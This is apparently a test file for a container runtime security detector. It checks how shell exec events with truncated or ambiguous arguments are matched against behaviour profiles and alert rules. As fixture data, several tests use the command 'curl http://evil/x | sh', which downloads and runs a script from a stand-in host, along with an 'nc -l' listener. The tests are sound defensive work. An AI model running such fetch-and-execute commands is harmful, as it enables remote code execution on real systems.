import { ExecEvent, type ExecEventInit } from "@kinglet/enrichment";
import { createMetrics } from "@kinglet/metrics";
import type { RuleDefinition } from "@kinglet/policy-engine";
import { describe, expect, it } from "vitest";

import type { Alert } from "../src/alert.ts";
import { builtinRules } from "../src/rules/builtin-rules.ts";
import { containerOf } from "./containers.ts";
import { detectorWith } from "./detector-with.ts";
import { profileViewWith } from "./profile-views.ts";
import { ruleOf } from "./rules.ts";

const container = containerOf();
const rules = builtinRules.filter(({ id }) => id === "R0001" || id === "R0040");
const any = "\u22ef\u22ef";
const cut = { isTruncated: true, flags: "execve clone truncArgs" };

async function alertsOf(
  execs: readonly object[],
  init: Partial<ExecEventInit>,
  running: readonly RuleDefinition[] = rules,
): Promise<readonly Alert[]> {
  const profile = profileViewWith({ execs });
  const detector = await detectorWith(running, { profiles: { get: () => profile } });
  expect(detector.invalidRules).toEqual([]);
  const event = new ExecEvent({ sequence: 1, source: "tetragon", binary: "/bin/sh", ...init });
  const alerts = detector.detect(event, container);
  expect(detector.activity.filter(({ failures }) => failures > 0)).toEqual([]);
  return alerts;
}
const idsOf = async (...args: Parameters<typeof alertsOf>): Promise<readonly string[]> =>
  (await alertsOf(...args)).map(({ ruleId }) => ruleId);

const shell = (...args: readonly string[]): object => ({ path: "/bin/sh", args: ["/bin/sh", ...args] });
const unknown: readonly Partial<ExecEventInit>[] = [
  { args: '-c "curl http://evil/x | sh" "a b"' },
  { args: '-c id "' },
  { args: "-c id 'x y'" },
  { args: "-c id \ufffd" },
  { args: '"a b" "c d"' },
  { args: "-c curl-evil", ...cut },
  { args: "-c --password=[redacted] '", argv: null },
  { source: "linux-audit", args: "-c curl-evil x", isTruncated: true },
];

describe("createDetector", () => {
  it.each(unknown)("sees arguments that nobody can tell and no entry can give: $args [rules U-1]", async (init) => {
    expect(new ExecEvent({ sequence: 1, binary: "/bin/sh", ...init }).argv).toBeUndefined();
    expect(await idsOf([shell("-c", "date"), shell("-c", "id")], init)).toEqual(["R0040"]);
    expect(await idsOf([{ path: "/bin/sh" }], init)).toEqual([]);
    expect(await idsOf([shell(any)], init)).toEqual([]);
    expect(await idsOf([{ path: "/bin/sh", args: [any] }], init)).toEqual([]);
    expect(await idsOf([{ path: "/bin/sh", args: [], argsRequired: true }], init)).toEqual(["R0040"]);
  });

  it.each(unknown)("names what silences it about such arguments: $args [rules T-2]", async (init) => {
    const [alert] = await alertsOf([shell("-c", "date")], init);
    expect(alert?.allowedBy?.path).toBe("spec.execs");
    const entry = alert?.allowedBy?.entry as { readonly path: string; readonly args: readonly string[] };
    expect(await idsOf([shell("-c", "date"), entry], init)).toEqual([]);
    expect(await idsOf([entry], { args: '-x "other" \'arguments' })).toEqual(entry.args[0] === any ? [] : ["R0040"]);
  });

  it("takes for silent what an entry of the profile may have given [rules U-1]", async () => {
    for (const [init, args] of [
      [{ args: '-c "ls -l" "a b"' }, ["-c", "ls -l", "a b"]],
      [{ args: '-c "ls -l" "a b"' }, ["-c", 'ls -l" "a b']],
      [{ args: "-c 'a b'" }, ["-c", "'a", "b'"]],
      [{ args: "-c 'a b'" }, ["-c", "\u22ef", "b'"]],
      [{ args: "-c 'a b'" }, ["-c", any]],
      [{ args: "-c \ufffd" }, ["-c", "\ufffd\ufffd"]],
      [{ args: '-c "long script wi"', ...cut }, ["-c", "long script with words", "x"]],
      [{ args: "-c x y", ...cut }, ["-c", "x", any]],
    ] as const) {
      for (const name of ["/bin/sh", "sh", "-sh", "\u22ef"]) {
        expect(await idsOf([{ path: "/bin/sh", args: [name, ...args] }], init), init.args).toEqual([]);
      }
      expect(await idsOf([{ path: "/bin/sh", args: ["ls", ...args] }], init)).toEqual(["R0040"]);
    }
    // Of Linux audit the name is not known when the rest was cut.
    const audit = { source: "linux-audit", args: "-c date", isTruncated: true } as const;
    expect(await idsOf([{ path: "/bin/sh", args: ["ash", "-c", "date -u"] }], audit)).toEqual([]);
  });

  it("judges them by every way of writing the question that hands the arguments on, and by no other one [rules U-1]", async () => {
    const asks = "!cp.was_executed_with_args(event.containerId, event.exepath, event.args)";
    const init = { args: '-c "curl http://evil/x | sh" "a b"' };
    for (const [expression, ids] of [
      [asks, ["T1"]],
      [asks.replace("cp.", "ap."), ["T1"]],
      [`has(event.args) && ${asks}`, ["T1"]],
      // The library runs what has a list of numbers in it.
      [`${asks} && [1, 2].map(x, x + 1).size() == 2`, ["T1"]],
      [`${asks} && event.args.size() > 1`, []],
      [`has(event.args) && event.args[0] == '/bin/sh'`, []],
      [`!has(event.args)`, ["T1"]],
      [`${asks.replace("event.args", "['/bin/sh']")} && !has(event.args)`, ["T1"]],
      ["!cp.was_executed_with_args(event.containerId, event.exepath, event.args.filter(x, x != ''))", []],
    ] as const) {
      const rule = ruleOf("T1", { profileDependency: 0 }, ["exec", expression]);
      expect(await idsOf([shell("-c", "date")], init, [rule]), expression).toEqual(ids);
      if (expression.includes(asks.slice(1)) && ids.length > 0) {
        expect(await idsOf([shell("-c", "curl http://evil/x | sh", "a b")], init, [rule]), expression).toEqual([]);
      }
    }
  });

  it("counts arguments of which nothing is certain, and does not judge them [rules U-1]", async () => {
    const metrics = createMetrics();
    const profile = profileViewWith({ execs: [shell("-c", "date")] });
    const detector = await detectorWith(rules, { profiles: { get: () => profile }, metrics });
    for (const flags of ["execve errorArgs", "execve truncArgs truncFilename"]) {
      const event = new ExecEvent({ sequence: 1, binary: "/bin/sh", args: "-c id", isTruncated: true, flags });
      expect(detector.detect(event, container)).toEqual([]);
    }
    expect((await metrics.exposition()).text).toContain('kinglet_detection_skipped_total{reason="missing_field"} 2');
  });

  it("tells the text in messages and in what makes alerts the same [rules U-1]", async () => {
    const rule = ruleOf("T1", {
      expressions: {
        message: "'ran ' + event.args.join(' ')",
        uniqueId: "event.args.join(' ')",
        ruleExpression: [{ eventType: "exec", expression: "true" }],
      },
    });
    const [alert] = await alertsOf([], { args: "-c id 'x y'" }, [rule]);
    expect(alert?.message).toBe("ran /bin/sh -c id 'x y'");
    const [same] = await alertsOf([], { args: "-c id 'x y'" }, [rule]);
    const [other] = await alertsOf([], { args: "-c id 'x z'" }, [rule]);
    expect(same?.repetitionId).toBe(alert?.repetitionId);
    expect(other?.repetitionId).not.toBe(alert?.repetitionId);
  });

  it("takes the path in the place of argv[0] and the file's name for each other, and no other name [rules U-2]", async () => {
    const exec = (path: string, name: string): object => ({ path, args: [name, "-c", "date"] });
    const tetragon = { args: "-c date" };
    for (const name of ["sh", "-sh", "/bin/sh"]) expect(await idsOf([exec("/bin/sh", name)], tetragon)).toEqual([]);
    for (const name of ["bash", "--sh", "bin/sh", "date", ""]) {
      expect(await idsOf([exec("/bin/sh", name)], tetragon)).toEqual(["R0040"]);
    }
    const audit = (name: string) => ({ source: "linux-audit", argv: [name, "-c", "date"] }) as const;
    expect(await idsOf([exec("/bin/sh", "/bin/sh")], audit("sh"))).toEqual([]);
    expect(await idsOf([exec("/bin/sh", "sh")], audit("/bin/sh"))).toEqual([]);
    for (const name of ["-sh", "bash", "/usr/bin/sh", ""]) {
      expect(await idsOf([exec("/bin/sh", "/bin/sh")], audit(name))).toEqual(["R0040"]);
    }
    expect(await idsOf([exec("/bin/sh", "-sh")], audit("sh"))).toEqual(["R0040"]);
    const busybox = { binary: "/bin/busybox" };
    expect(await idsOf([exec("/bin/busybox", "date")], { ...audit("sh"), ...busybox })).toEqual(["R0040"]);
    expect(await idsOf([exec("/bin/busybox", "date")], { ...tetragon, ...busybox })).toEqual(["R0040"]);
    expect(await idsOf([exec("/bin/sh", "sh")], { args: "-c id" })).toEqual(["R0040"]);
  });

  it("names no entry for a rule that asks nothing that the entry would answer [rules T-4]", async () => {
    const nc = { binary: "/usr/bin/nc", args: "-l" };
    const allowedBy = async (expression: string): Promise<unknown> => {
      const rule = ruleOf("C1", { profileDependency: 0 }, ["exec", expression]);
      const [alert] = await alertsOf([], nc, [rule]);
      expect(alert?.ruleId).toBe("C1");
      return alert?.allowedBy?.path;
    };
    expect(await allowedBy("event.exepath.endsWith('/nc')")).toBeUndefined();
    expect(await allowedBy("event.exepath.endsWith('/nc') || !cp.was_executed(event.containerId, event.exepath)")).toBe(
      undefined,
    );
    expect(await allowedBy("!cp.was_executed(event.containerId, '/usr/bin/wget')")).toBeUndefined();
    expect(await allowedBy("!cp.was_executed(event.containerId, event.exepath)")).toBe("spec.execs");
    expect(await allowedBy("!cp.was_path_opened(event.containerId, event.exepath)")).toBe("spec.opens");
  });
});
